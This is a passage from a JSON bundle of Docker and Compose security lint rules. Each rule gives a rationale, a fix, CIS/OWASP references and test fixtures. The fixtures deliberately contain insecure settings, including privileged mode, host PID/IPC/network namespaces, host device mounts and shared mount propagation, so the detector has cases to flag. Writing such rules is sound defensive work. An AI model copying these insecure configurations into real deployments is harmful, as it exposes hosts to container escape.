/dev/fuse\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":31},{"line":6,"column":9,"endLine":6,"endColumn":26}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    devices: []\\n    volumes:\\n      - ./dev:/srv/dev\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      fuse:\\n        image: ghcr.io/example/fuse:1.0.0\\n        options: --device /dev/fuse\\n    steps:\\n      - run: |\\n          docker run --rm --device=/dev/kvm ghcr.io/example/emulator:2.0.0 boot\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":36},{"line":11,"column":11,"endLine":11,"endColumn":80}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2 --device ${{ matrix.device }}\\n    steps:\\n      - run: docker run --rm alpine:3.20 ls /dev\\n","expect":[]}],"source":"policies/docker/container-host-device.yaml"},{"id":"container-host-namespace","pack":"docker","title":"Container shares the host\'s PID, IPC, UTS or user namespace","severity":"high","subject":"container","schema":{"properties":{"pid":{"not":{"const":"host"}},"ipc":{"not":{"const":"host"}},"uts":{"not":{"const":"host"}},"userns_mode":{"not":{"const":"host"}}}},"message":"{{name}} sets `{{key}}: host`, so it shares that namespace with the host and can see or affect what runs outside the container. Remove the setting so the container keeps its own namespace.","rationale":"Namespaces are what make a container a container. Sharing the host\'s PID namespace lets its processes list, signal and (with `SYS_PTRACE`) inspect every process on the host, including their environment and secrets; sharing IPC exposes the host\'s shared memory segments and semaphores; sharing UTS lets it change the host\'s hostname; and `userns_mode: host` switches off user-namespace remapping, so root in the container is root on the host again. The CIS Docker Benchmark asks that none of these namespaces be shared with the host.","remediation":"Remove the setting so that Docker gives the container its own namespace. To share a namespace\\nbetween cooperating containers, share it with that container rather than with the host:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  debugger:\\n    image: ghcr.io/example/debug-tools:2.0.1\\n    pid: \\"service:app\\"   # not \\"host\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--pid host`, `--ipc host`, `--uts host`\\nand `--userns host`.","references":[{"framework":"cis-docker","id":"1.6.0:5.16"},{"framework":"cis-docker","id":"1.6.0:5.17"},{"framework":"cis-docker","id":"1.6.0:5.21"},{"framework":"cis-docker","id":"1.6.0:5.31"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pid"},{"framework":"url","url":"https://docs.docker.com/engine/security/userns-remap/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: datadog/agent:7.57.0\\n    pid: host\\n    ipc: host\\n    uts: host\\n    userns_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":14},{"line":5,"column":5,"endLine":5,"endColumn":14},{"line":6,"column":5,"endLine":6,"endColumn":14},{"line":7,"column":5,"endLine":7,"endColumn":22}]},{"file":"compose.yaml","content":"x-debug: &debug\\n  pid: \\"host\\"\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n  tools:\\n    <<: *debug\\n    image: ghcr.io/example/debug-tools:2.0.1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":14}]},{"file":"compose.yaml","content":"services:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ipc: shareable\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    ipc: \\"service:app\\"\\n    pid: \\"service:app\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ubuntu:24.04\\n      options: --pid=host --ipc host\\n    steps:\\n      - run: ps aux\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":37},{"line":7,"column":7,"endLine":7,"endColumn":37}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          set -eu\\n          docker run --rm \\\\\\n            --userns=host \\\\\\n            ubuntu:24.04 id\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":28}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  profile:\\n    runs-on: ubuntu-latest\\n    services:\\n      app:\\n        image: ghcr.io/example/app:1.4.2\\n        options: --pid private --hostname app\\n    steps:\\n      - run: docker run --rm --pid container:app ubuntu:24.04 ps\\n","expect":[]}],"source":"policies/docker/container-host-namespace.yaml"},{"id":"container-host-network","pack":"docker","title":"Container uses the host\'s network namespace","severity":"high","subject":"container","schema":{"properties":{"network_mode":{"not":{"const":"host"}}}},"message":"{{name}} uses the host\'s network stack instead of its own: it can reach every service bound to the host\'s localhost and every host interface, and anything it listens on is exposed on the host directly. Remove the host network mode and publish only the ports it serves, e.g. `ports: [\\"127.0.0.1:8080:8080\\"]`.","rationale":"With the host network mode the container gets no network namespace of its own. It sees and can use all of the host\'s interfaces, can connect to daemons that listen only on the host\'s loopback address (metadata endpoints, databases, the Docker API on TCP), can sniff traffic with `NET_RAW`, and bypasses the isolation and firewall rules Docker sets up for bridge networks. The CIS Docker Benchmark asks that the host\'s network namespace never be shared with a container.","remediation":"Drop the host network mode, let the container use its own (user-defined bridge) network, and\\npublish only the ports that must be reachable, bound to a specific address:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    # network_mode: host   # removed\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, remove `--network host` / `--net=host` and use\\n`-p 127.0.0.1:8080:8080` instead.","references":[{"framework":"cis-docker","id":"1.6.0:5.10"},{"framework":"url","url":"https://docs.docker.com/engine/network/drivers/host/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  metrics:\\n    image: prom/node-exporter:v1.8.2\\n    network_mode: host\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":23}]},{"file":"compose.yaml","content":"x-hostnet: &hostnet\\n  network_mode: \\"host\\"\\nservices:\\n  sniffer:\\n    <<: *hostnet\\n    image: nicolaka/netshoot:v0.13\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":23}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    networks: [front]\\n  sidecar:\\n    image: envoyproxy/envoy:v1.31.0\\n    network_mode: \\"service:web\\"\\nnetworks:\\n  front: {}\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      redis:\\n        image: redis:7.4\\n        options: --net=host --health-cmd \\"redis-cli ping\\"\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":58}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - name: Start the app\\n        run: |\\n          docker network create e2e\\n          docker run -d --name app --network host ghcr.io/example/app:1.4.2\\n","expect":[{"line":9,"column":11,"endLine":9,"endColumn":76}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  e2e:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --network ${{ matrix.network }}\\n    steps:\\n      - run: docker run -d --network e2e -p 127.0.0.1:8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-host-network.yaml"},{"id":"container-mount-propagation-shared","pack":"docker","title":"Mount uses shared propagation","severity":"medium","subject":"container","schema":{"properties":{"volumes":{"items":{"properties":{"propagation":{"not":{"enum":{"$param":"sharedModes"}}}}}}}},"message":"{{name}} has a mount with `{{value}}` propagation, so mounts made inside the container appear on the host (and in other containers sharing it) and the other way round. Remove the propagation option (the default is `rprivate`) or use `rslave` if the container only needs to see host mounts.","rationale":"With shared propagation a mount made inside the container is propagated to the host\'s mount namespace and to every other container that shares the mount, which lets a container change what the host sees under that path. The CIS Docker Benchmark (5.20) asks that mount propagation not be set to shared. `rslave` gives the container the host\'s new mounts without sending its own back.","remediation":"```yaml\\nservices:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - type: bind\\n        source: /mnt/data\\n        target: /data\\n        bind:\\n          propagation: rslave   # not shared / rshared\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.20"},{"framework":"url","url":"https://docs.docker.com/engine/storage/bind-mounts/#configure-bind-propagation"}],"params":{"sharedModes":["shared","rshared"]},"paramSchemas":{"sharedModes":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Bind propagation modes that let mounts made inside the container appear on the host."}},"tests":[{"file":"compose.yaml","content":"services:\\n  csi:\\n    image: ghcr.io/example/csi-driver:1.2.0\\n    volumes:\\n      - /mnt/data:/data:rshared\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: shared\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":32},{"line":6,"column":9,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  agent:\\n    image: ghcr.io/example/agent:1.2.0\\n    volumes:\\n      - /mnt/data:/data:ro,rslave\\n      - type: bind\\n        source: /srv/plugins\\n        target: /plugins\\n        bind:\\n          propagation: rprivate\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      options: --mount type=bind,source=/mnt,target=/mnt,bind-propagation=rshared\\n    steps:\\n      - run: |\\n          docker run --rm -v /srv:/srv:shared alpine:3.20 true\\n","expect":[{"line":7,"column":7,"endLine":7,"endColumn":82},{"line":10,"column":11,"endLine":10,"endColumn":63}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: ghcr.io/example/builder:1.0.0\\n      volumes:\\n        - /mnt:/mnt:rslave\\n    steps:\\n      - run: docker run --rm -v /srv:/srv:ro alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-mount-propagation-shared.yaml"},{"id":"container-no-cpu-limit","pack":"docker","title":"Compose service has no CPU limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["cpus"]},"message":"{{name}} has no CPU limit, so a busy loop or a flood of requests in it can starve every other container on the host. Set `cpus:` (or `deploy.resources.limits.cpus`), e.g. `cpus: 1.0`.","rationale":"By default every container competes for all of the host\'s CPUs with equal weight. A service that is attacked or stuck in a loop slows everything else down, including health checks and the Docker daemon. A limit keeps one service\'s problem its own. The CIS Docker Benchmark (5.12) and the OWASP cheat sheet (rule 7) ask that CPU use be limited or prioritized. Informational by default: on a host that runs one service, a limit matters less.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.0        # or deploy.resources.limits.cpus: \\"1.0\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.12"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/#cpu"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    mem_limit: 512m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 0.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          cpus: \\"2\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-cpu-limit.yaml"},{"id":"container-no-healthcheck","pack":"docker","title":"Compose service has no health check","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["healthcheck"],"properties":{"healthcheck":{"properties":{"disable":{"const":false}}}}},"message":"{{name}} has no working health check, so Docker reports it as running while it hangs or serves errors, and `depends_on: condition: service_healthy` cannot wait for it. Add a `healthcheck:` (or a HEALTHCHECK in its Dockerfile) that probes the service, e.g. `test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]`.","rationale":"A container whose main process is alive is not necessarily a service that works. A health check lets Docker, Compose and orchestrators notice a deadlocked or degraded container, restart it or keep traffic and dependants away from it, and it turns silent failures (including some denial of service) into visible ones. The CIS Docker Benchmark asks for a HEALTHCHECK in images (4.6) and for container health to be checked at run time (5.27). Informational by default: many services are watched from outside instead.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    healthcheck:\\n      test: [\\"CMD\\", \\"wget\\", \\"-qO-\\", \\"http://localhost:8080/healthz\\"]\\n      interval: 30s\\n      timeout: 5s\\n      retries: 3\\n```\\n\\nImages without a shell or wget can ship a small probe binary, or define the HEALTHCHECK in the\\nDockerfile.","references":[{"framework":"cis-docker","id":"1.6.0:5.27"},{"framework":"cis-docker","id":"1.6.0:4.6"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#healthcheck"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      disable: true\\n  cache:\\n    image: redis:7.4\\n    healthcheck:\\n      test: [\\"NONE\\"]\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":7,"column":7,"endLine":7,"endColumn":20},{"line":10,"column":5,"endLine":10,"endColumn":16}]},{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    healthcheck:\\n      test: [\\"CMD-SHELL\\", \\"pg_isready -U postgres\\"]\\n      interval: 10s\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --no-healthcheck\\n    steps:\\n      - run: docker run -d nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-no-healthcheck.yaml"},{"id":"container-no-memory-limit","pack":"docker","title":"Compose service has no memory limit","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["mem_limit"]},"message":"{{name}} has no memory limit, so a leak or a crafted request can exhaust the host\'s memory and take every other container down with it. Set `mem_limit:` (or `deploy.resources.limits.memory`) to what the service needs, e.g. `mem_limit: 512m`.","rationale":"By default a container may use all of the host\'s memory. One misbehaving or attacked service then pushes the host into swapping or wakes the kernel\'s OOM killer, which may kill a different, more important process. A limit confines the damage to the service that caused it and makes capacity planning possible. The CIS Docker Benchmark (5.11) and the OWASP cheat sheet (rule 7) ask that every container\'s memory be limited.","remediation":"Set a limit with headroom above the service\'s normal use:\\n\\n```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n          cpus: \\"1.0\\"\\n          pids: 200\\n```\\n\\n`mem_limit: 512m`, `cpus: 1.0` and `pids_limit: 200` at the service level are equivalent.","references":[{"framework":"cis-docker","id":"1.6.0:5.11"},{"framework":"owasp-docker","id":"RULE #7"},{"framework":"url","url":"https://docs.docker.com/engine/containers/resource_constraints/"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    cpus: 1.5\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    mem_limit: 256m\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          memory: 512M\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-memory-limit.yaml"},{"id":"container-no-new-privileges","pack":"docker","title":"Container may gain privileges through setuid binaries (no-new-privileges not set)","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"security_opt":{"not":{"items":{"not":{"pattern":{"$param":"enabled"}}}}}}},"message":"{{name}} does not set `no-new-privileges`, so a setuid or setgid program inside it can still raise a process\'s privileges. Add `security_opt: [\\"no-new-privileges:true\\"]`.","rationale":"The kernel\'s `no_new_privs` bit, which Docker sets with `no-new-privileges`, makes `execve` unable to grant more privileges than the caller had: setuid and setgid binaries and file capabilities stop working as an escalation path from an application user to root inside the container. It costs nothing for almost every service. The CIS Docker Benchmark and the OWASP cheat sheet recommend it for every container; this rule asks it of Compose services, the long-running ones.","remediation":"Add the option to the service (or to a shared `x-` block merged into every service):\\n\\n```yaml\\nx-hardening: &hardening\\n  security_opt:\\n    - no-new-privileges:true\\nservices:\\n  app:\\n    <<: *hardening\\n    image: ghcr.io/example/app:1.4.2\\n```\\n\\nThe Docker daemon can also apply it to every container with `\\"no-new-privileges\\": true` in\\n`daemon.json`, but the Compose file is where a reviewer can see it.","references":[{"framework":"cis-docker","id":"1.6.0:5.26"},{"framework":"owasp-docker","id":"RULE #4"}],"params":{"enabled":"^no-new-privileges=(1|t|T|true|TRUE|True)$"},"paramSchemas":{"enabled":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A `security_opt` entry that turns no-new-privileges on. Docker reads the value with Go\'s strconv.ParseBool; a bare `no-new-privileges` is normalized to `no-new-privileges=true` by the container subject."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt:\\n      - apparmor=docker-default\\n      - no-new-privileges:false\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":17}]},{"file":"compose.yaml","content":"x-hardening: &hardening\\n  security_opt: [no-new-privileges:true]\\nservices:\\n  web:\\n    <<: *hardening\\n    image: nginx:1.27\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    security_opt:\\n      - no-new-privileges\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    security_opt: [\\"no-new-privileges=true\\", \\"seccomp=./seccomp.json\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --health-cmd pg_isready\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-new-privileges.yaml"},{"id":"container-no-pids-limit","pack":"docker","title":"Compose service has no process (PIDs) limit","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"required":["pids_limit"],"properties":{"pids_limit":{"type":"integer","minimum":1}}},"message":"{{name}} has no limit on the number of processes, so a fork bomb or a runaway worker pool in it can exhaust the host\'s process table. Set `pids_limit:` (or `deploy.resources.limits.pids`), e.g. `pids_limit: 200`.","rationale":"Process IDs are a host-wide resource. Without a limit, one container can create processes until the kernel refuses to start any more anywhere on the host, including the daemon\'s own. The CIS Docker Benchmark (5.29) asks that the PIDs cgroup limit be used. Informational by default.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.29"},{"framework":"url","url":"https://docs.docker.com/reference/compose-file/services/#pids_limit"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    pids_limit: -1\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":6},{"line":6,"column":5,"endLine":6,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    pids_limit: 200\\n  worker:\\n    image: ghcr.io/example/worker:1.4.2\\n    deploy:\\n      resources:\\n        limits:\\n          pids: 100\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container: node:22\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-no-pids-limit.yaml"},{"id":"container-port-all-interfaces","pack":"docker","title":"Published port listens on every host interface","severity":"low","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"required":["host_ip"],"properties":{"host_ip":{"not":{"enum":{"$param":"anyAddress"}}}}}}}},"message":"{{name}} publishes a port on every interface of the host, so it is reachable from the network, and Docker\'s own firewall rules let it past host firewalls such as ufw. Bind it to the address that should reach it, e.g. `\\"127.0.0.1:8080:80\\"`.","rationale":"A published port without a host address is bound to `0.0.0.0` and `::`. Docker inserts its NAT rules ahead of the host firewall\'s own, so a database or admin interface meant for local use becomes reachable from the whole network, and from the internet on a server with a public address, even when `ufw` or `firewalld` says the port is closed. The CIS Docker Benchmark asks that container ports be bound to a specific host interface; the OWASP cheat sheet warns about the firewall bypass.","remediation":"Bind the port to the loopback address (or to the one interface that should serve it), and put a\\nreverse proxy in front of services that must be public:\\n\\n```yaml\\nservices:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"127.0.0.1:5432:5432\\"\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - target: 8080\\n        published: \\"8080\\"\\n        host_ip: 127.0.0.1\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.14"},{"framework":"owasp-docker","id":"RULE #5a"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"anyAddress":["0.0.0.0","::","[::]"]},"paramSchemas":{"anyAddress":{"schema":{"type":"array","items":{"type":"string","minLength":1}},"description":"Host addresses that mean \\"every interface\\"; an absent host_ip means the same."}},"tests":[{"file":"compose.yaml","content":"services:\\n  db:\\n    image: postgres:16\\n    ports:\\n      - \\"5432:5432\\"\\n      - 127.0.0.1:5433:5432\\n      - \\"0.0.0.0:6432:6432\\"\\n      - \\"[::]:7432:7432/tcp\\"\\n      - \\"9187\\"\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":20},{"line":7,"column":9,"endLine":7,"endColumn":28},{"line":8,"column":9,"endLine":8,"endColumn":29},{"line":9,"column":9,"endLine":9,"endColumn":15}]},{"file":"compose.yaml","content":"x-ports: &ports\\n  ports:\\n    - target: 3000\\n      published: \\"3000\\"\\nservices:\\n  grafana:\\n    <<: *ports\\n    image: grafana/grafana:11.2.0\\n","expect":[{"line":3,"column":7,"endLine":3,"endColumn":19}]},{"file":"compose.yaml","content":"services:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:8080\\"\\n      - \\"[::1]:8080:8080\\"\\n      - target: 9090\\n        published: \\"9090\\"\\n        host_ip: 10.0.0.5\\n    expose: [\\"9100\\"]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        ports:\\n          - 5432:5432\\n        options: -p 6432:6432\\n    steps:\\n      - run: docker run -d -p 8080:80 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-port-all-interfaces.yaml"},{"id":"container-privileged-port","pack":"docker","title":"Compose service publishes a privileged host port (below 1024)","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"ports":{"items":{"properties":{"published":{"not":{"pattern":{"$param":"privilegedPort"}}}}}}}},"message":"{{name}} publishes host port {{value}}, one of the privileged ports below 1024 that the host normally reserves for its own system services. Publish a port above 1024 (e.g. `\\"8080:80\\"`) and put a reverse proxy or load balancer on the low port if one is needed.","rationale":"Ports below 1024 are privileged on Linux: only root may bind them, and clients trust that what answers there is a service the administrator started (SSH on 22, DNS on 53, HTTP on 80). Docker publishes them for any container regardless, so a container can take over a well-known port on the host. The CIS Docker Benchmark (5.8) asks that privileged ports not be mapped into containers. Informational by default: a reverse proxy on 80 and 443 is the usual, deliberate exception.","remediation":"Publish a high port and keep the low one for a reverse proxy you have chosen to expose:\\n\\n```yaml\\nservices:\\n  app:\\n    image: ghcr.io/example/app:1.4.2\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.8"},{"framework":"url","url":"https://docs.docker.com/engine/network/port-publishing/"}],"params":{"privilegedPort":"^([0-9]|[1-9][0-9]|[1-9][0-9][0-9]|10[01][0-9]|102[0-3])(-|$)"},"paramSchemas":{"privilegedPort":{"schema":{"type":"string","format":"regex","minLength":1},"description":"A published host port, or the start of a range, below 1024."}},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"80:80\\"\\n      - \\"127.0.0.1:8443:443\\"\\n      - target: 53\\n        published: \\"53\\"\\n        protocol: udp\\n","expect":[{"line":5,"column":9,"endLine":5,"endColumn":16},{"line":8,"column":9,"endLine":8,"endColumn":24}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    ports:\\n      - \\"127.0.0.1:8080:80\\"\\n      - \\"8443:443\\"\\n      - \\"9000-9010:9000-9010\\"\\n      - \\"3000\\"\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      web:\\n        image: nginx:1.27\\n        ports:\\n          - 80:80\\n    steps:\\n      - run: docker run -d -p 443:443 nginx:1.27\\n","expect":[]}],"source":"policies/docker/container-privileged-port.yaml"},{"id":"container-privileged","pack":"docker","title":"Container runs privileged","severity":"critical","subject":"container","schema":{"properties":{"privileged":{"not":{"const":true}}}},"message":"{{name}} runs privileged: it gets every Linux capability and every host device, so whoever controls it controls the host. Remove `privileged: true` and add only the capabilities it needs with `cap_add`.","rationale":"A privileged container runs with all capabilities, with access to all host devices, and without the seccomp, AppArmor and SELinux confinement Docker applies by default. Anything that escapes into it (a vulnerable dependency, a malicious image, a pull request\'s code) can mount the host\'s disks, load kernel modules and take over the machine and every container on it.","remediation":"Remove the privileged flag and grant the one capability the workload actually needs, after\\ndropping the rest:\\n\\n```yaml\\nservices:\\n  app:\\n    cap_drop: [ALL]\\n    cap_add: [NET_BIND_SERVICE]\\n```\\n\\nIn a workflow\'s `options:` or a `docker run`, drop `--privileged` and use `--cap-drop ALL --cap-add \u2026`.","references":[{"framework":"cis-docker","id":"1.6.0:5.5"},{"framework":"owasp-docker","id":"RULE #3"},{"framework":"url","url":"https://docs.docker.com/engine/containers/run/#runtime-privilege-and-linux-capabilities"}],"params":{},"paramSchemas":{},"tests":[{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: true\\n","expect":[{"line":4,"column":5,"endLine":4,"endColumn":21}]},{"file":"compose.yaml","content":"x-common: &common\\n  privileged: \\"true\\"\\nservices:\\n  web:\\n    <<: *common\\n    image: nginx:1.27\\n","expect":[{"line":2,"column":3,"endLine":2,"endColumn":21}]},{"file":"compose.yaml","content":"services:\\n  web:\\n    image: nginx:1.27\\n    privileged: false\\n    cap_add: [NET_BIND_SERVICE]\\n","expect":[]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    services:\\n      db:\\n        image: postgres:16\\n        options: --privileged --health-cmd pg_isready\\n    steps:\\n      - run: echo ok\\n","expect":[{"line":8,"column":9,"endLine":8,"endColumn":54}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: |\\n          echo building\\n          docker run --rm \\\\\\n            --privileged alpine:3.20 true\\n","expect":[{"line":8,"column":11,"endLine":8,"endColumn":28}]},{"file":".github/workflows/ci.yml","content":"on: push\\njobs:\\n  test:\\n    runs-on: ubuntu-latest\\n    container:\\n      image: node:22\\n      options: --cpus 2\\n    steps:\\n      - run: docker run --rm alpine:3.20 true\\n","expect":[]}],"source":"policies/docker/container-privileged.yaml"},{"id":"container-restart-policy","pack":"docker","title":"Restart policy retries without a bound","severity":"info","subject":"container","when":{"properties":{"origin":{"enum":["compose-service"]}}},"schema":{"properties":{"restart":{"pattern":{"$param":"boundedRestart"}}}},"message":"{{name}} uses `restart: {{value}}`, which restarts it forever, so a crash loop (or an attacker who can crash it on demand) keeps the host busy restarting it without anyone noticing. Use `restart: on-failure:5` and alert on the failure instead.","rationale":"An unbounded restart policy hides a failing service behind endless restarts: each one costs CPU and I/O, may replay a harmful start-up step, and keeps a service that should have been looked at running in a broken state. The CIS Docker Benchmark (5.15) asks for the `on-failure` policy with a maximum of five retries. Informational by default, since `unless-stopped` is a common and deliberate choice for services that must survive reboots.","remediation":"```yaml\\nservices:\\n  api:\\n    image: ghcr.io/example/api:1.4.2\\n    restart: on-failure:5\\n```","references":[{"framework":"cis-docker","id":"1.6.0:5.15"},{"framework":"url","url":"https://docs.docker.com/engine/containers/start-containers-automatically/"}],"params":{"boundedRestart":"^(no|false|on-failure:[1-5])$"},"paramSchemas":{"boundedRestart":{"schema":{"type":"string","format":"regex","minLength":1},"description":"`no` (YAML 1.1 reads an unquoted `no` as false), or on-failure 